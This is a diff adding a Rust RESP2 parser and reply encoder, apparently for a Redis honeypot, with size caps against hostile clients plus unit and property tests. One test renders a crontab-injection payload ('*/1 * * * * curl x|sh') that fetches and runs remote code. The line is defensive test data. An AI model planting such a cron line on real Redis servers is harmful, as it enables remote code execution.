@@ -1,0 +1,618 @@
+//! Sans-IO RESP2 request parser and reply encoder, with the caps checked before anything
+//! is allocated: a hostile client announces sizes it never sends.
+
+/// Caps on one request. Real attack payloads (crontabs, keys, Lua) are a few KiB; the
+/// defaults keep a connection's input buffer under 128 KiB plus one read.
+#[derive(Debug, Clone, Copy)]
+pub(crate) struct Caps {
+    /// Most arguments in one multibulk request.
+    pub max_args: usize,
+    /// Longest single bulk string.
+    pub max_bulk: usize,
+    /// Longest inline command line (real Redis: 64 KiB).
+    pub max_inline: usize,
+    /// Most bytes one request may announce or occupy in the buffer, headers included.
+    pub max_request: usize,
+}
+
+impl Default for Caps {
+    fn default() -> Self {
+        Caps {
+            max_args: 1024,
+            max_bulk: 96 * 1024,
+            max_inline: 64 * 1024,
+            max_request: 128 * 1024,
+        }
+    }
+}
+
+/// What the front of the buffer holds.
+#[derive(Debug, PartialEq, Eq)]
+pub(crate) enum Parsed {
+    /// Not a whole request yet; read more (the buffer is below `max_request`).
+    Incomplete,
+    /// Something Redis skips without answering (a blank inline line, `*0`).
+    Skip { consumed: usize },
+    /// One command and its arguments, binary-safe.
+    Request { args: Vec<Vec<u8>>, consumed: usize },
+}
+
+/// Protocol errors; Redis answers each with its own text and closes the connection.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub(crate) enum RespError {
+    #[error("invalid multibulk length")]
+    MultibulkLength,
+    #[error("invalid bulk length")]
+    BulkLength,
+    #[error("expected '$', got '{0}'")]
+    ExpectedDollar(char),
+    #[error("too big inline request")]
+    InlineTooBig,
+    #[error("unbalanced quotes in request")]
+    UnbalancedQuotes,
+    /// Over `max_request` in total: Redis's query buffer limit, which closes silently.
+    #[error("request over the size cap")]
+    RequestTooBig,
+}
+
+impl RespError {
+    /// The reply Redis sends before closing, if any.
+    pub(crate) fn reply(&self) -> Option<Vec<u8>> {
+        match self {
+            RespError::RequestTooBig => None,
+            e => Some(format!("-ERR Protocol error: {e}\r\n").into_bytes()),
+        }
+    }
+}
+
+/// Longest `*N` / `$N` header line accepted (sign, 20 digits and then some).
+const MAX_HEADER_LINE: usize = 32;
+
+/// Looks at the front of `buf` and says what it holds. Never allocates more than what is
+/// actually in `buf`, bounded by the caps.
+pub(crate) fn parse(buf: &[u8], caps: &Caps) -> Result<Parsed, RespError> {
+    match buf.first() {
+        None => Ok(Parsed::Incomplete),
+        Some(b'*') => parse_multibulk(buf, caps),
+        Some(_) => parse_inline(buf, caps),
+    }
+}
+
+fn parse_multibulk(buf: &[u8], caps: &Caps) -> Result<Parsed, RespError> {
+    let Some((count, mut pos)) = header_line(buf, 1, RespError::MultibulkLength)? else {
+        return Ok(Parsed::Incomplete);
+    };
+    if count <= 0 {
+        return Ok(Parsed::Skip { consumed: pos });
+    }
+    if count as u64 > caps.max_args as u64 {
+        return Err(RespError::MultibulkLength);
+    }
+    let count = count as usize;
+    // Every argument takes at least "$0\r\n\r\n" (6 bytes): a count that cannot fit the
+    // request cap is refused before anything is reserved for it.
+    if count.saturating_mul(6) > caps.max_request {
+        return Err(RespError::RequestTooBig);
+    }
+    let mut args = Vec::with_capacity(count.min(buf.len() / 6 + 1));
+    let mut announced = pos;
+    for _ in 0..count {
+        match buf.get(pos) {
+            None => return Ok(Parsed::Incomplete),
+            Some(b'$') => {}
+            Some(&c) => return Err(RespError::ExpectedDollar(char::from(c))),
+        }
+        let Some((len, after)) = header_line(buf, pos + 1, RespError::BulkLength)? else {
+            return Ok(Parsed::Incomplete);
+        };
+        if len < 0 || len as u64 > caps.max_bulk as u64 {
+            return Err(RespError::BulkLength);
+        }
+        let len = len as usize;
+        announced = announced + (after - pos) + len + 2;
+        if announced > caps.max_request {
+            return Err(RespError::RequestTooBig);
+        }
+        let end = after + len;
+        if buf.len() < end + 2 {
+            return Ok(Parsed::Incomplete);
+        }
+        // Redis does not check the CRLF after a bulk either; it skips two bytes.
+        args.push(buf[after..end].to_vec());
+        pos = end + 2;
+    }
+    Ok(Parsed::Request {
+        args,
+        consumed: pos,
+    })
+}
+
+/// Parses the decimal number of a `*N\r\n` / `$N\r\n` line whose digits start at `start`.
+/// `None` if the line is not complete yet.
+fn header_line(
+    buf: &[u8],
+    start: usize,
+    err: RespError,
+) -> Result<Option<(i64, usize)>, RespError> {
+    let rest = buf.get(start..).unwrap_or_default();
+    let window = &rest[..rest.len().min(MAX_HEADER_LINE)];
+    let Some(cr) = window.iter().position(|&b| b == b'\r') else {
+        return if rest.len() >= MAX_HEADER_LINE {
+            Err(err)
+        } else {
+            Ok(None)
+        };
+    };
+    let n = parse_i64(&window[..cr]).ok_or(err)?;
+    // Redis looks for "\r" and skips the byte after it, whatever it is.
+    if rest.len() < cr + 2 {
+        return Ok(None);
+    }
+    Ok(Some((n, start + cr + 2)))
+}
+
+/// A strict decimal integer as Redis's `string2ll` reads it: optional `-`, digits, no
+/// leading zeros, no `+`, no spaces, no overflow.
+pub(crate) fn parse_i64(s: &[u8]) -> Option<i64> {
+    let (neg, digits) = match s.split_first() {
+        Some((b'-', d)) => (true, d),
+        _ => (false, s),
+    };
+    if digits.is_empty() || digits.len() > 19 || (digits.len() > 1 && digits[0] == b'0') {
+        return None;
+    }
+    if neg && digits == b"0" {
+        return None;
+    }
+    let mut v: i64 = 0;
+    for &d in digits {
+        if !d.is_ascii_digit() {
+            return None;
+        }
+        v = v.checked_mul(10)?;
+        v = if neg {
+            v.checked_sub(i64::from(d - b'0'))?
+        } else {
+            v.checked_add(i64::from(d - b'0'))?
+        };
+    }
+    Some(v)
+}
+
+fn parse_inline(buf: &[u8], caps: &Caps) -> Result<Parsed, RespError> {
+    let limit = caps.max_inline.min(caps.max_request);
+    let Some(nl) = buf.iter().take(limit + 1).position(|&b| b == b'\n') else {
+        return if buf.len() > limit {
+            Err(RespError::InlineTooBig)
+        } else {
+            Ok(Parsed::Incomplete)
+        };
+    };
+    let mut line = &buf[..nl];
+    if let Some(stripped) = line.strip_suffix(b"\r") {
+        line = stripped;
+    }
+    let args = split_args(line)?;
+    if args.is_empty() {
+        return Ok(Parsed::Skip { consumed: nl + 1 });
+    }
+    if args.len() > caps.max_args {
+        return Err(RespError::MultibulkLength);
+    }
+    Ok(Parsed::Request {
+        args,
+        consumed: nl + 1,
+    })
+}
+
+/// Splits an inline command line the way redis-cli and Redis do (`sdssplitargs`):
+/// whitespace-separated words, `"…"` with C escapes and `\xHH`, `'…'` with `\'`; a closing
+/// quote must be followed by whitespace or the end of the line.
+pub(crate) fn split_args(line: &[u8]) -> Result<Vec<Vec<u8>>, RespError> {
+    let mut args = Vec::new();
+    let mut i = 0;
+    loop {
+        while i < line.len() && is_space(line[i]) {
+            i += 1;
+        }
+        if i >= line.len() {
+            return Ok(args);
+        }
+        let mut cur = Vec::new();
+        let mut in_dq = false;
+        let mut in_sq = false;
+        loop {
+            if in_dq {
+                match line.get(i) {
+                    None => return Err(RespError::UnbalancedQuotes),
+                    Some(b'\\') if line.get(i + 1) == Some(&b'x') => {
+                        match (line.get(i + 2), line.get(i + 3)) {
+                            (Some(&h), Some(&l))
+                                if h.is_ascii_hexdigit() && l.is_ascii_hexdigit() =>
+                            {
+                                cur.push(hex_val(h) * 16 + hex_val(l));
+                                i += 3;
+                            }
+                            _ => {
+                                cur.push(b'x');
+                                i += 1;
+                            }
+                        }
+                    }
+                    Some(b'\\') if i + 1 < line.len() => {
+                        i += 1;
+                        cur.push(match line[i] {
+                            b'n' => b'\n',
+                            b'r' => b'\r',
+                            b't' => b'\t',
+                            b'b' => 0x08,
+                            b'a' => 0x07,
+                            c => c,
+                        });
+                    }
+                    Some(b'"') => {
+                        if line.get(i + 1).is_some_and(|&c| !is_space(c)) {
+                            return Err(RespError::UnbalancedQuotes);
+                        }
+                        i += 1;
+                        break;
+                    }
+                    Some(&c) => cur.push(c),
+                }
+            } else if in_sq {
+                match line.get(i) {
+                    None => return Err(RespError::UnbalancedQuotes),
+                    Some(b'\\') if line.get(i + 1) == Some(&b'\'') => {
+                        i += 1;
+                        cur.push(b'\'');
+                    }
+                    Some(b'\'') => {
+                        if line.get(i + 1).is_some_and(|&c| !is_space(c)) {
+                            return Err(RespError::UnbalancedQuotes);
+                        }
+                        i += 1;
+                        break;
+                    }
+                    Some(&c) => cur.push(c),
+                }
+            } else {
+                match line.get(i) {
+                    None => break,
+                    Some(&c) if is_space(c) => break,
+                    Some(b'"') => in_dq = true,
+                    Some(b'\'') => in_sq = true,
+                    Some(&c) => cur.push(c),
+                }
+            }
+            i += 1;
+        }
+        args.push(cur);
+    }
+}
+
+fn is_space(c: u8) -> bool {
+    matches!(c, b' ' | b'\n' | b'\r' | b'\t' | 0x0b | 0x0c | 0)
+}
+
+fn hex_val(c: u8) -> u8 {
+    // Only called on ASCII hex digits.
+    char::from(c).to_digit(16).map_or(0, |d| d as u8)
+}
+
+/// A RESP2 reply.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) enum Reply {
+    Simple(String),
+    Error(String),
+    Int(i64),
+    Bulk(Vec<u8>),
+    Nil,
+    Array(Vec<Reply>),
+}
+
+impl Reply {
+    pub(crate) fn ok() -> Reply {
+        Reply::Simple("OK".into())
+    }
+
+    pub(crate) fn err(msg: impl Into<String>) -> Reply {
+        Reply::Error(msg.into())
+    }
+
+    pub(crate) fn bulk(s: impl AsRef<[u8]>) -> Reply {
+        Reply::Bulk(s.as_ref().to_vec())
+    }
+
+    /// Appends the wire form to `out`. Simple strings and errors never carry CR or LF
+    /// (they would break framing), whatever an attacker put in them.
+    pub(crate) fn encode(&self, out: &mut Vec<u8>) {
+        match self {
+            Reply::Simple(s) => line(out, b'+', s),
+            Reply::Error(s) => line(out, b'-', s),
+            Reply::Int(n) => {
+                out.push(b':');
+                out.extend_from_slice(n.to_string().as_bytes());
+                out.extend_from_slice(b"\r\n");
+            }
+            Reply::Bulk(b) => {
+                out.push(b'$');
+                out.extend_from_slice(b.len().to_string().as_bytes());
+                out.extend_from_slice(b"\r\n");
+                out.extend_from_slice(b);
+                out.extend_from_slice(b"\r\n");
+            }
+            Reply::Nil => out.extend_from_slice(b"$-1\r\n"),
+            Reply::Array(items) => {
+                out.push(b'*');
+                out.extend_from_slice(items.len().to_string().as_bytes());
+                out.extend_from_slice(b"\r\n");
+                for i in items {
+                    i.encode(out);
+                }
+            }
+        }
+    }
+}
+
+fn line(out: &mut Vec<u8>, tag: u8, s: &str) {
+    out.push(tag);
+    out.extend(
+        s.bytes()
+            .map(|b| if b == b'\r' || b == b'\n' { b' ' } else { b }),
+    );
+    out.extend_from_slice(b"\r\n");
+}
+
+/// Renders arguments for a `Command` event: plain words as they are, anything else quoted
+/// with C escapes (`"\x00"`, `"\n"`), the way `redis-cli` and `MONITOR` show them, so the
+/// line is unambiguous and binary-safe.
+pub(crate) fn render_args(args: &[Vec<u8>]) -> String {
+    let mut out = String::new();
+    for (i, a) in args.iter().enumerate() {
+        if i > 0 {
+            out.push(' ');
+        }
+        let plain = !a.is_empty()
+            && a.iter()
+                .all(|&b| b.is_ascii_graphic() && b != b'"' && b != b'\'' && b != b'\\');
+        if plain {
+            // Only ASCII graphic bytes: valid UTF-8.
+            out.push_str(&String::from_utf8_lossy(a));
+            continue;
+        }
+        out.push('"');
+        for &b in a {
+            match b {
+                b'\\' => out.push_str("\\\\"),
+                b'"' => out.push_str("\\\""),
+                b'\n' => out.push_str("\\n"),
+                b'\r' => out.push_str("\\r"),
+                b'\t' => out.push_str("\\t"),
+                0x20..=0x7e => out.push(char::from(b)),
+                _ => out.push_str(&format!("\\x{b:02x}")),
+            }
+        }
+        out.push('"');
+        // No point rendering megabytes that will be clamped anyway.
+        if out.len() > honeybee_proto::event::MAX_FIELD_LEN {
+            break;
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    fn req(buf: &[u8]) -> Vec<Vec<u8>> {
+        match parse(buf, &Caps::default()).unwrap() {
+            Parsed::Request { args, consumed } => {
+                assert_eq!(consumed, buf.len());
+                args
+            }
+            other => panic!("{other:?}"),
+        }
+    }
+
+    fn strs(v: &[&str]) -> Vec<Vec<u8>> {
+        v.iter().map(|s| s.as_bytes().to_vec()).collect()
+    }
+
+    #[test]
+    fn multibulk_and_pipelining() {
+        assert_eq!(req(b"*1\r\n$4\r\nPING\r\n"), strs(&["PING"]));
+        let two = b"*2\r\n$4\r\nECHO\r\n$3\r\na\0b\r\n*1\r\n$4\r\nPING\r\n";
+        match parse(two, &Caps::default()).unwrap() {
+            Parsed::Request { args, consumed } => {
+                assert_eq!(args, vec![b"ECHO".to_vec(), b"a\0b".to_vec()]);
+                assert_eq!(&two[consumed..], b"*1\r\n$4\r\nPING\r\n");
+            }
+            other => panic!("{other:?}"),
+        }
+        assert_eq!(req(b"*2\r\n$3\r\nGET\r\n$0\r\n\r\n"), strs(&["GET", ""]));
+    }
+
+    #[test]
+    fn every_prefix_of_a_request_is_incomplete() {
+        let full = b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$5\r\nhello\r\n";
+        for n in 0..full.len() {
+            assert_eq!(
+                parse(&full[..n], &Caps::default()),
+                Ok(Parsed::Incomplete),
+                "{n}"
+            );
+        }
+        assert_eq!(req(full), strs(&["SET", "k", "hello"]));
+    }
+
+    #[test]
+    fn inline_commands_split_like_redis() {
+        assert_eq!(req(b"PING\r\n"), strs(&["PING"]));
+        assert_eq!(req(b"  set  k   v\n"), strs(&["set", "k", "v"]));
+        assert_eq!(
+            req(b"SET k \"a b\\n\\x41\" 'it\\'s'\r\n"),
+            vec![
+                b"SET".to_vec(),
+                b"k".to_vec(),
+                b"a b\nA".to_vec(),
+                b"it's".to_vec()
+            ]
+        );
+        assert_eq!(req(b"GET / HTTP/1.0\r\n"), strs(&["GET", "/", "HTTP/1.0"]));
+        assert_eq!(
+            parse(b"\r\n", &Caps::default()),
+            Ok(Parsed::Skip { consumed: 2 })
+        );
+        assert_eq!(
+            parse(b"SET \"abc\r\n", &Caps::default()),
+            Err(RespError::UnbalancedQuotes)
+        );
+        assert_eq!(
+            parse(b"SET \"a\"b\r\n", &Caps::default()),
+            Err(RespError::UnbalancedQuotes)
+        );
+        assert_eq!(parse(b"PIN", &Caps::default()), Ok(Parsed::Incomplete));
+    }
+
+    #[test]
+    fn caps_are_checked_before_the_bytes_arrive() {
+        let caps = Caps::default();
+        assert_eq!(
+            parse(b"*99999999\r\n", &caps),
+            Err(RespError::MultibulkLength)
+        );
+        assert_eq!(
+            parse(b"*1\r\n$999999999\r\n", &caps),
+            Err(RespError::BulkLength)
+        );
+        assert_eq!(parse(b"*1\r\n$-1\r\n", &caps), Err(RespError::BulkLength));
+        assert_eq!(
+            parse(b"*1\r\nx", &caps),
+            Err(RespError::ExpectedDollar('x'))
+        );
+        assert_eq!(parse(b"*x\r\n", &caps), Err(RespError::MultibulkLength));
+        assert_eq!(parse(b"*0\r\n", &caps), Ok(Parsed::Skip { consumed: 4 }));
+        // Two bulks each under the bulk cap, together over the request cap.
+        let small = Caps {
+            max_bulk: 100,
+            max_request: 150,
+            ..caps
+        };
+        assert_eq!(
+            parse(b"*2\r\n$100\r\n", &small),
+            Ok(Parsed::Incomplete),
+            "the first bulk alone fits"
+        );
+        let mut two = b"*2\r\n$100\r\n".to_vec();
+        two.extend_from_slice(&[b'a'; 100]);
+        two.extend_from_slice(b"\r\n$100\r\n");
+        assert_eq!(parse(&two, &small), Err(RespError::RequestTooBig));
+        // An endless header line or inline line.
+        assert_eq!(parse(&[b'*'; 40], &caps), Err(RespError::MultibulkLength));
+        let long = vec![b'a'; caps.max_inline + 1];
+        assert_eq!(parse(&long, &caps), Err(RespError::InlineTooBig));
+        assert_eq!(parse(b"*-1\r\n", &caps), Ok(Parsed::Skip { consumed: 5 }));
+    }
+
+    #[test]
+    fn error_replies_are_redis_texts() {
+        assert_eq!(
+            RespError::MultibulkLength.reply().unwrap(),
+            b"-ERR Protocol error: invalid multibulk length\r\n"
+        );
+        assert_eq!(
+            RespError::ExpectedDollar('x').reply().unwrap(),
+            b"-ERR Protocol error: expected '$', got 'x'\r\n"
+        );
+        assert_eq!(RespError::RequestTooBig.reply(), None);
+    }
+
+    #[test]
+    fn strict_integers() {
+        assert_eq!(parse_i64(b"12"), Some(12));
+        assert_eq!(parse_i64(b"-3"), Some(-3));
+        assert_eq!(parse_i64(b"9223372036854775807"), Some(i64::MAX));
+        assert_eq!(parse_i64(b"-9223372036854775808"), Some(i64::MIN));
+        for bad in [
+            &b""[..],
+            b"-",
+            b"+1",
+            b"01",
+            b"-0",
+            b" 1",
+            b"1x",
+            b"9223372036854775808",
+        ] {
+            assert_eq!(parse_i64(bad), None, "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn encoding() {
+        let mut out = Vec::new();
+        Reply::Array(vec![
+            Reply::ok(),
+            Reply::err("ERR x\r\ny"),
+            Reply::Int(-2),
+            Reply::bulk("ab"),
+            Reply::Nil,
+        ])
+        .encode(&mut out);
+        assert_eq!(out, b"*5\r\n+OK\r\n-ERR x  y\r\n:-2\r\n$2\r\nab\r\n$-1\r\n");
+    }
+
+    #[test]
+    fn rendering_is_binary_safe() {
+        assert_eq!(
+            render_args(&[
+                b"SET".to_vec(),
+                b"k".to_vec(),
+                b"\n*/1 * * * * curl x|sh\n\0".to_vec()
+            ]),
+            "SET k \"\\n*/1 * * * * curl x|sh\\n\\x00\""
+        );
+        assert_eq!(
+            render_args(&[b"".to_vec(), "é".as_bytes().to_vec()]),
+            "\"\" \"\\xc3\\xa9\""
+        );
+    }
+
+    proptest! {
+        #[test]
+        fn arbitrary_bytes_never_panic(data in proptest::collection::vec(any::<u8>(), 0..512)) {
+            let caps = Caps { max_args: 8, max_bulk: 64, max_inline: 128, max_request: 256 };
+            let mut rest: &[u8] = &data;
+            // Consume requests until the parser wants more or refuses: never panics, always
+            // makes progress.
+            for _ in 0..600 {
+                match parse(rest, &caps) {
+                    Ok(Parsed::Request { args, consumed }) => {
+                        prop_assert!(consumed > 0 && consumed <= rest.len());
+                        prop_assert!(args.len() <= caps.max_args);
+                        prop_assert!(args.iter().all(|a| a.len() <= caps.max_request));
+                        rest = &rest[consumed..];
+                    }
+                    Ok(Parsed::Skip { consumed }) => {
+                        prop_assert!(consumed > 0 && consumed <= rest.len());
+                        rest = &rest[consumed..];
+                    }
+                    Ok(Parsed::Incomplete) | Err(_) => break,
+                }
+            }
+            let _ = render_args(std::slice::from_ref(&data));
+        }
+
+        #[test]
+        fn encoded_requests_round_trip(args in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..40), 1..6)) {
+            let mut wire = format!("*{}\r\n", args.len()).into_bytes();
+            for a in &args {
+                wire.extend_from_slice(format!("${}\r\n", a.len()).as_bytes());
+                wire.extend_from_slice(a);
+                wire.extend_from_slice(b"\r\n");
+            }
+            prop_assert_eq!(parse(&wire, &Caps::default()), Ok(Parsed::Request { args, consumed: wire.len() }));
+        }
+    }
+}
